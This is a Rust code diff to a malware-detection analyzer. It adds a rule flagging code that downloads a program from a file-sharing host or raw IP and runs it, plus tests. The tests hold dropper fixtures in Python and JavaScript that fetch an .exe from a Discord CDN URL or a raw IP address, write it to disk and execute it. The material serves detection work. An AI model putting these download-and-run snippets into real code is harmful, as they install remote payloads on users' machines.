@@ -556,7 +556,28 @@ impl Analyzer {
                         "downloads a file into an autostart place (it runs at every login)",
                     )
                 });
-            for ((_, line, scope, snip), msg) in dropped.into_iter().chain(cloned).chain(persisted)
+            // A program staged on a file-sharing host or a raw IP, in a file that writes
+            // a download and runs a program, even in different functions (a dropper's
+            // `download(url, dir)` and `run_hidden(path)` helpers).
+            let staged = facts
+                .staged_exe_url
+                .first()
+                .filter(|_| {
+                    dropped.is_none()
+                        && !facts.download_to_file.is_empty()
+                        && !facts.run_program.is_empty()
+                })
+                .map(|f| {
+                    (
+                        f,
+                        "names a program on a file-sharing host or raw IP, writes a download and runs a program",
+                    )
+                });
+            for ((_, line, scope, snip), msg) in dropped
+                .into_iter()
+                .chain(cloned)
+                .chain(persisted)
+                .chain(staged)
             {
                 findings_extra.push(raw(
                     "DL-WRITE-EXEC",
@@ -1705,6 +1726,37 @@ mod tests {
         );
         assert!(hit(&a, &startup, "DL-WRITE-EXEC").is_some());
         assert!(hit(&a, &pkg("~/Downloads"), "DL-WRITE-EXEC").is_none());
+    }
+
+    #[test]
+    fn a_staged_program_downloaded_and_run_by_helper_functions_is_drop_and_run() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let py = |url: &str| {
+            let src = format!(
+                "import os, requests, subprocess\ndef fetch(url, d):\n    p = os.path.join(d, 'a.exe')\n    with open(p, 'wb') as f:\n        f.write(requests.get(url).content)\n    return p\ndef run(p):\n    subprocess.Popen(p, shell=True)\ndef main():\n    run(fetch('{url}', os.getenv('APPDATA')))\n"
+            );
+            vec![pf("p-1/p/cli.py", &src)]
+        };
+        let staged = py("https://cdn.discordapp.com/attachments/1/2/MinGCC-x64.exe?ex=1&");
+        assert!(hit(&a, &staged, "DL-WRITE-EXEC").is_some());
+        // The same helpers fetching a vendor's installer, or a file-sharing URL that is no
+        // program, are what installers and model downloaders do.
+        let vendor = py("https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe");
+        assert!(hit(&a, &vendor, "DL-WRITE-EXEC").is_none());
+        let data = py("https://storage.googleapis.com/models/weights.h5");
+        assert!(hit(&a, &data, "DL-WRITE-EXEC").is_none());
+        // JavaScript: the URL in one function, the write and the run in others.
+        let js = vec![
+            pf(
+                "package/package.json",
+                r#"{"name":"p","version":"1.0.0","main":"index.js"}"#,
+            ),
+            pf(
+                "package/index.js",
+                "const https = require('https'), fs = require('fs'), cp = require('child_process');\nfunction get(u, p, cb) { https.get(u, r => { r.pipe(fs.createWriteStream(p)).on('finish', cb); }); }\nfunction start(p) { cp.exec(p); }\nmodule.exports = () => get('http://45.61.12.9/update.exe', 'u.exe', () => start('u.exe'));\n",
+            ),
+        ];
+        assert!(hit(&a, &js, "DL-WRITE-EXEC").is_some());
     }
 
     #[test]
